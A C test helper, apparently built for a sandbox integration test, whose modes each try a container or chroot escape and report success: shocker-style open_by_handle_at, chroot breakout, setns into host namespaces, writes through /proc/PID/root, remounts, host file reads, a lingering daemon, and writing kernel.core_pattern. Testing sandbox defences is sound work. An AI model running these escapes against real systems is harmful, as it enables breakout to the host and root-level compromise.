/* Hostile code for tests/integration/test_sandbox_escape.py: each mode tries one way out of
 * a sandbox and prints "ESCAPED ..." (exit 0) when it got out, or what stopped it (exit 1).
 * Built statically by the test, so that it runs in a root filesystem of its own.
 *
 *   capeff                      print the effective capabilities (CapEff)
 *   handle HOSTPATH             open_by_handle_at on the host's root inode ("shocker"),
 *                               then create HOSTPATH (absolute on the host) through it,
 *                               remounting the root read-write if it is read-only
 *   mount                       mount a proc and remount / read-write
 *   procroot PID HOSTPATH       create HOSTPATH through /proc/PID/root (PID: a host process)
 *   net PID PORT                connect to 127.0.0.1:PORT (and send "hello")
 *   read HOSTPATH               print the content of a host file
 *   daemon PID TOKEN            leave a process behind (double fork, setsid, sleep)
 *   sysctl                      write kernel.core_pattern (its current value, unchanged:
 *                               a new value would run a program as root on the host)
 *
 * Every mode that needs a host view first tries to get one: breaking out of a chroot
 * (mkdir + chroot + chdir ..), and entering the namespaces of host process PID (setns).
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

static int fail(const char *what) {
    printf("blocked: %s: %s\n", what, strerror(errno));
    return 1;
}

/* ext4's root directory: inode 2, generation 0 (FILEID_INO32_GEN) */
static int host_root_by_handle(void) {
    struct {
        unsigned int handle_bytes;
        int handle_type;
        unsigned int ino, gen;
    } h = {8, 1, 2, 0};
    int mount_fd = open("/", O_RDONLY | O_DIRECTORY);
    if (mount_fd < 0) return -1;
    int fd = open_by_handle_at(mount_fd, (struct file_handle *)&h, O_RDONLY | O_DIRECTORY);
    if (fd < 0) printf("open_by_handle_at: %s\n", strerror(errno));
    return fd;
}

static void break_chroot(void) {
    mkdir("/tmp/.hostile", 0700);
    if (chroot("/tmp/.hostile") != 0) return;
    for (int i = 0; i < 64; i++) chdir("..");
    chroot(".");
}

static void enter(const char *pid, const char *ns, int type) {
    char path[128];
    snprintf(path, sizeof path, "/proc/%s/ns/%s", pid, ns);
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
        printf("open %s: %s\n", path, strerror(errno));
        return;
    }
    if (setns(fd, type) != 0) printf("setns %s: %s\n", ns, strerror(errno));
    close(fd);
}

static int create_at(int dirfd, const char *path) {
    int fd = openat(dirfd, path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0 && errno == EROFS) {
        if (mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL) != 0)
            printf("remount rw: %s\n", strerror(errno));
        fd = openat(dirfd, path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    }
    if (fd < 0) return -1;
    write(fd, "escaped\n", 8);
    close(fd);
    return 0;
}

static int mode_capeff(void) {
    char line[256];
    FILE *f = fopen("/proc/self/status", "r");
    if (!f) return fail("/proc/self/status");
    while (fgets(line, sizeof line, f))
        if (strncmp(line, "CapEff:", 7) == 0) fputs(line, stdout);
    fclose(f);
    return 0;
}

static int mode_handle(const char *hostpath) {
    int root = host_root_by_handle();
    if (root < 0) return fail("open_by_handle_at");
    if (create_at(root, hostpath + 1) != 0) return fail(hostpath);
    printf("ESCAPED: wrote %s on the host\n", hostpath);
    return 0;
}

static int mode_mount(void) {
    int ok = 0;
    mkdir("/tmp/p", 0755);
    if (mount("proc", "/tmp/p", "proc", 0, NULL) == 0) {
        printf("ESCAPED: mounted a proc\n");
        ok = 1;
    } else {
        printf("mount proc: %s\n", strerror(errno));
    }
    if (mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL) == 0) {
        printf("ESCAPED: remounted / read-write\n");
        ok = 1;
    } else {
        printf("remount / rw: %s\n", strerror(errno));
    }
    return ok ? 0 : fail("mount");
}

static int mode_procroot(const char *pid, const char *hostpath) {
    char path[4096];
    break_chroot();
    snprintf(path, sizeof path, "/proc/%s/root%s", pid, hostpath);
    if (create_at(AT_FDCWD, path) != 0) {
        snprintf(path, sizeof path, "/proc/1/root%s", hostpath);
        if (create_at(AT_FDCWD, path) != 0) return fail(path);
    }
    printf("ESCAPED: wrote %s\n", path);
    return 0;
}

static int connect_to(int port) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s < 0) return -1;
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) {
        close(s);
        return -1;
    }
    write(s, "hello\n", 6);
    close(s);
    return 0;
}

static int mode_net(const char *pid, int port) {
    if (connect_to(port) == 0) {
        printf("ESCAPED: connected to port %d\n", port);
        return 0;
    }
    printf("connect: %s\n", strerror(errno));
    break_chroot();
    enter(pid, "net", CLONE_NEWNET);
    if (connect_to(port) != 0) return fail("connect");
    printf("ESCAPED: connected to port %d from the host's network\n", port);
    return 0;
}

static int mode_read(const char *hostpath) {
    char buf[256];
    int fd = open(hostpath, O_RDONLY);
    if (fd < 0) {
        printf("open %s: %s\n", hostpath, strerror(errno));
        int root = host_root_by_handle();
        if (root < 0) return fail("open_by_handle_at");
        fd = openat(root, hostpath + 1, O_RDONLY);
        if (fd < 0) return fail(hostpath);
    }
    ssize_t n = read(fd, buf, sizeof buf - 1);
    if (n < 0) return fail("read");
    buf[n] = 0;
    printf("ESCAPED: read %s: %s\n", hostpath, buf);
    return 0;
}

static int mode_daemon(const char *pid, const char *token) {
    int exe = open("/proc/self/exe", O_RDONLY);
    if (exe < 0) return fail("/proc/self/exe");
    break_chroot();
    enter(pid, "pid", CLONE_NEWPID);  /* children are born in the host's pid namespace */
    int fds[2];
    if (pipe(fds) != 0) return fail("pipe");
    pid_t child = fork();
    if (child < 0) return fail("fork");
    if (child == 0) {
        setsid();
        pid_t grandchild = fork();
        if (grandchild == 0) {
            int null = open("/dev/null", O_RDWR);
            dup2(null, 0), dup2(null, 1), dup2(null, 2);
            close(fds[0]), close(fds[1]);
            char *args[] = {"hostile", "sleep", (char *)token, NULL};
            fexecve(exe, args, environ);
            _exit(127);
        }
        write(fds[1], &grandchild, sizeof grandchild);
        _exit(0);
    }
    pid_t daemon = -1;
    read(fds[0], &daemon, sizeof daemon);
    waitpid(child, NULL, 0);
    usleep(200000);
    if (daemon > 0 && kill(daemon, 0) == 0) printf("daemon alive: pid %d\n", (int)daemon);
    return 0;
}

static int mode_sysctl(void) {
    char value[256];
    const char *path = "/proc/sys/kernel/core_pattern";
    int fd = open(path, O_RDONLY);
    if (fd < 0) return fail(path);
    ssize_t n = read(fd, value, sizeof value);
    close(fd);
    if (n <= 0) return fail("read core_pattern");
    fd = open(path, O_WRONLY);
    if (fd < 0) return fail(path);
    if (write(fd, value, n) != n) return fail("write core_pattern");
    close(fd);
    printf("ESCAPED: wrote kernel.core_pattern\n");
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    const char *mode = argc > 1 ? argv[1] : "";
    if (!strcmp(mode, "capeff")) return mode_capeff();
    if (!strcmp(mode, "handle") && argc == 3) return mode_handle(argv[2]);
    if (!strcmp(mode, "mount")) return mode_mount();
    if (!strcmp(mode, "procroot") && argc == 4) return mode_procroot(argv[2], argv[3]);
    if (!strcmp(mode, "net") && argc == 4) return mode_net(argv[2], atoi(argv[3]));
    if (!strcmp(mode, "read") && argc == 3) return mode_read(argv[2]);
    if (!strcmp(mode, "daemon") && argc == 4) return mode_daemon(argv[2], argv[3]);
    if (!strcmp(mode, "sysctl")) return mode_sysctl();
    if (!strcmp(mode, "sleep")) {
        sleep(600);
        return 0;
    }
    fprintf(stderr, "usage: hostile MODE ARGS\n");
    return 2;
}
